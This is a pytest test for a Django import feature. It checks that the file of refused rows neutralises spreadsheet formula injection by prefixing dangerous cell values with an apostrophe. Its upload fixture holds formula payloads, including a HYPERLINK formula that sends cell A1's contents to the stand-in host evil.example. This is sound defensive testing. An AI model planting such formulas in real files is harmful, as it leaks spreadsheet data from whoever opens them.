"""The refused-rows file cannot run code in the spreadsheet of whoever opens it."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from kliento.imports.models import ImportRun
from tests.factories import UserFactory

IMMEDIATE = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}


@pytest.mark.django_db
def test_refused_rows_file_cannot_run_a_formula_sent_in_the_import(client, settings, tmp_path,
                                                                   channels):
    settings.TASKS, settings.VAR_DIR = IMMEDIATE, tmp_path
    client.force_login(UserFactory(username="boss", is_staff=True, is_superuser=True))
    upload = (b'external_id,full_name,email\n'
              b'C-1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",=1+2@evil\n'
              b'C-2,-2+3,@SUM(1+1)\n')
    client.post(reverse("imports:list"), {
        "kind": "customers", "preset": "kliento", "encoding": "",
        "file": SimpleUploadedFile("customers.csv", upload)})
    run = ImportRun.objects.get()
    assert run.rejected == 2
    refused = client.get(reverse("imports:rejects", args=[run.pk]))
    text = b"".join(refused.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["external_id", "full_name", "email", "error"]
    assert [row[:3] for row in rows[1:]] == [
        ["C-1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=1+2@evil"],
        ["C-2", "'-2+3", "'@SUM(1+1)"]]
